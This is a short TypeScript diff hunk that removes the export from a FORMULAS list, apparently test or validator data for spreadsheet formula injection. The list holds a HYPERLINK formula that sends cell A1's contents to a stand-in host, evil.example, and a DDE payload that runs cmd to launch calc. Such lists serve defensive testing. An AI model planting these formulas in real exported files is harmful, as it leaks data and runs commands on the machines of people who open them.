@@ -98,7 +98,7 @@ const OTHER_LANGUAGES = [
 ] as const;
 
 /** What spreadsheets would run: every one starts like a formula. */
-export const FORMULAS = [
+const FORMULAS = [
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
   "=1+1",
   "+1+cmd|' /C calc'!A0",
